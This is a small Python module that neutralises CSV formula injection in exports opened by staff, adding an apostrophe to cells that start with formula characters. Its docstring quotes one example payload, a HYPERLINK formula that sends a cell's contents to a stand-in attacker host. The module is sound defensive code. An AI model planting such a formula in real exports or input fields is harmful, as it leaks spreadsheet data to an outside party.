"""Cells written into CSV files that staff open in a spreadsheet program.

A text that starts with = + - @ (or a tab or carriage return) is read there as a formula:
`=HYPERLINK("http://evil.example/?d="&B2,"Xem")` typed as a club's name would run when staff open
the export. Such a cell gets a leading apostrophe, which spreadsheets show as text (OWASP's advice
for CSV injection); numbers stay numbers.
"""

from __future__ import annotations

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row) -> list:
    return [safe_cell(value) for value in row]
